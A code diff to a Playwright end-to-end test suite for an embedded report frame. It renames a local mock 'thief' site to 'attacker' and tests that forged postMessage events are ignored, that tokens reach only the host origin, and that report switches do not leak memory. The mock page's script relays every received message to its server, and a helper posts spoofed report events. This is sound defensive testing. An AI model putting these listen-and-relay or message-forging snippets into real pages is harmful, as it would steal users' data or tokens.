@@ -4,55 +4,59 @@ import type { AddressInfo } from "node:net";
 import { text } from "node:stream/consumers";
 import { type CDPSession, expect, type Page } from "@playwright/test";
 import { isLongRun, recordFigure } from "../support/server/figures.ts";
-import { type Road, test } from "../support/e2e/embedding-stage.ts";
+import { type ReportHost, test } from "../support/e2e/embedding-stage.ts";
 
 const SWITCHES = isLongRun ? 200 : 50;
 
-/** Another site that writes down every message its page is sent. */
-async function startThief() {
-  const stolen: string[] = [];
-  const page = `<p>Thief</p><script>addEventListener('message', ({ data }) => fetch('/got', { method: 'POST', body: JSON.stringify(data) }))</script>`;
+/** Another site that records every message its page receives. */
+async function startAttacker() {
+  const received: string[] = [];
+  const page = `<p>Attacker</p><script>addEventListener('message', ({ data }) => fetch('/got', { method: 'POST', body: JSON.stringify(data) }))</script>`;
   const server = createServer((request, response) => {
-    if (request.method === "POST") void text(request).then((body) => stolen.push(body));
+    if (request.method === "POST") void text(request).then((body) => received.push(body));
     response.setHeader("content-type", "text/html").end(page);
   });
-  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
-  return { stolen, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => server.close() };
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return {
+    received,
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    close: () => server.close(),
+  };
 }
 
-/** What lives in the page once everything that can be collected is gone. */
-async function living(devTools: CDPSession) {
+/** Counts what is left in the page after garbage collection. */
+async function measurePage(devTools: CDPSession) {
   await devTools.send("HeapProfiler.collectGarbage");
   await devTools.send("HeapProfiler.collectGarbage");
   const { metrics } = await devTools.send("Performance.getMetrics");
-  const read = (wanted: string) => metrics.find(({ name }) => name === wanted)?.value ?? 0;
+  const read = (metric: string) => metrics.find(({ name }) => name === metric)?.value ?? 0;
   return { nodes: read("Nodes"), listeners: read("JSEventListeners"), heap: read("JSHeapUsedSize") };
 }
 
 const uidOf = async (page: Page) =>
   new URL((await page.locator("iframe").first().getAttribute("src")) ?? "").searchParams.get("uid") ?? "";
 
-/** Events of a report that never happened, from whoever evaluates this. */
+/** Posts events of a report that never happened from the frame that evaluates this. */
 function forge({ target, uid }: { target: "self" | "parent"; uid: string }) {
   const victim = target === "self" ? window : window.parent;
-  const tell = (url: string, body: unknown) =>
+  const post = (url: string, body: unknown) =>
     victim.postMessage({ method: "POST", url, headers: { id: "forged" }, body }, "*");
-  tell(`/reports/${uid}/events/error`, { message: "TokenExpired", errorCode: "403", level: 6 });
-  tell(`/reports/${uid}/events/pageChanged`, { newPage: { name: "forged", displayName: "Forged" } });
-  tell(`/reports/${uid}/events/rendered`, {});
-  tell(`/ready/${uid}`, {});
+  post(`/reports/${uid}/events/error`, { message: "TokenExpired", errorCode: "403", level: 6 });
+  post(`/reports/${uid}/events/pageChanged`, { newPage: { name: "forged", displayName: "Forged" } });
+  post(`/reports/${uid}/events/rendered`, {});
+  post(`/ready/${uid}`, {});
 }
 
-for (const road of ["cloud", "listed"] as Road[]) {
-  test.describe(`The frame is kept apart, ${road}`, () => {
+for (const host of ["cloud", "listed"] as ReportHost[]) {
+  test.describe(`The frame is kept apart, ${host}`, () => {
     test("9: forged events from the page, from another origin and from a second frame of the host have no effect", async ({
       built,
       stage,
       page,
     }) => {
-      const other = await startThief();
+      const other = await startAttacker();
       await stage.open(`/?frames=${other.origin}`);
-      const config = await built.config(road);
+      const config = await built.config(host);
       await stage.show({ config });
       await stage.rendered();
       const before = await stage.facts();
@@ -60,31 +64,31 @@ for (const road of ["cloud", "listed"] as Road[]) {
       await page.evaluate(forge, { target: "self", uid } as const);
       for (const src of [other.origin, config.embedUrl]) {
         const frame = await page.evaluateHandle((address) => {
-          const made = document.createElement("iframe");
-          made.src = address;
-          document.body.append(made);
-          return made;
+          const created = document.createElement("iframe");
+          created.src = address;
+          document.body.append(created);
+          return created;
         }, src);
         const inside = await frame.contentFrame();
         await inside?.waitForLoadState();
         await inside?.evaluate(forge, { target: "parent", uid } as const);
       }
-      await page.evaluate(() => window.harness.report?.refresh());
+      await page.evaluate(() => window.harness.report.refresh());
       await expect.poll(async () => (await stage.facts()).length).toBe(before.length + 1);
       expect((await stage.facts()).at(-1)).toEqual({ type: "embed.rendered" });
       other.close();
     });
 
     test("9: the token reaches the host’s origin and no other", async ({ built, stage, page }) => {
-      const thief = await startThief();
+      const attacker = await startAttacker();
       await page.route("**/reportEmbed**", (route) =>
-        route.fulfill({ status: 302, headers: { location: thief.origin } }),
+        route.fulfill({ status: 302, headers: { location: attacker.origin } }),
       );
-      await stage.open(`/?frames=${thief.origin}`);
-      await stage.show({ config: await built.config(road) });
-      await stage.frame.getByText("Thief").evaluate(() => window.postMessage("the thief is listening", "*"));
-      await expect.poll(() => thief.stolen).toEqual(['"the thief is listening"']);
-      thief.close();
+      await stage.open(`/?frames=${attacker.origin}`);
+      await stage.show({ config: await built.config(host) });
+      await stage.frame.getByText("Attacker").evaluate(() => window.postMessage("the attacker is listening", "*"));
+      await expect.poll(() => attacker.received).toEqual(['"the attacker is listening"']);
+      attacker.close();
     });
 
     test(`10: ${SWITCHES} switches between reports leave one frame, the right report, and nothing behind`, async ({
@@ -94,26 +98,26 @@ for (const road of ["cloud", "listed"] as Road[]) {
       context,
     }) => {
       test.setTimeout(SWITCHES * 4000);
-      const configs = await Promise.all([1, 3, 4].map((id) => built.config(road, id)));
+      const configs = await Promise.all([1, 3, 4].map((id) => built.config(host, id)));
       const names = ["Claims & Losses", "Fleet Hull & Machinery", "Cargo in Transit"];
       const devTools = await context.newCDPSession(page);
       await devTools.send("Performance.enable");
       await stage.open();
-      const seen: Awaited<ReturnType<typeof living>>[] = [];
+      const seen: Awaited<ReturnType<typeof measurePage>>[] = [];
       let messageListeners = 0;
       for (let at = 0; at < SWITCHES; at += 1) {
         await stage.show({ config: configs[at % 3] });
         await expect(stage.frame.getByRole("heading", { level: 1, name: names[at % 3] ?? "" })).toBeVisible();
         await expect(page.locator("iframe")).toHaveCount(1);
         if (at === 0) messageListeners = await page.evaluate(() => window.listeners);
-        if (at === 9 || at === SWITCHES - 1) seen.push(await living(devTools));
+        if (at === 9 || at === SWITCHES - 1) seen.push(await measurePage(devTools));
       }
       expect(await page.evaluate(() => window.listeners)).toBe(messageListeners);
       const [early, late] = seen;
       const counted = SWITCHES - 10;
       const grown = (what: "nodes" | "listeners" | "heap") => (late?.[what] ?? 0) - (early?.[what] ?? 0);
       recordFigure(
-        `${SWITCHES} reports, ${road}`,
+        `${SWITCHES} reports, ${host}`,
         `${(grown("heap") / counted / 1024).toFixed(1)} KiB and ${(grown("nodes") / counted).toFixed(2)} nodes each, ${grown("listeners")} listeners in all`,
         "≤ 10 KiB, ≤ 3 nodes, ≤ 4 listeners",
       );
@@ -128,7 +132,7 @@ for (const road of ["cloud", "listed"] as Road[]) {
       page,
     }) => {
       await stage.open();
-      await stage.show({ config: await built.config(road) });
+      await stage.show({ config: await built.config(host) });
       await stage.rendered();
       await page.locator(".stage").evaluate((element) => element.requestFullscreen());
       await expect.poll(() => page.evaluate(() => document.fullscreenElement?.className)).toBe("stage");
@@ -142,11 +146,11 @@ for (const road of ["cloud", "listed"] as Road[]) {
       page,
     }) => {
       await stage.open();
-      await stage.show({ config: await built.config(road) });
+      await stage.show({ config: await built.config(host) });
       await stage.rendered();
-      await stage.show({ config: await built.config(road) });
+      await stage.show({ config: await built.config(host) });
       await stage.rendered(2);
-      await stage.show({ config: await built.config(road, 3) });
+      await stage.show({ config: await built.config(host, 3) });
       await stage.rendered(3);
       expect(await page.evaluate(() => window.violations)).toEqual([]);
     });
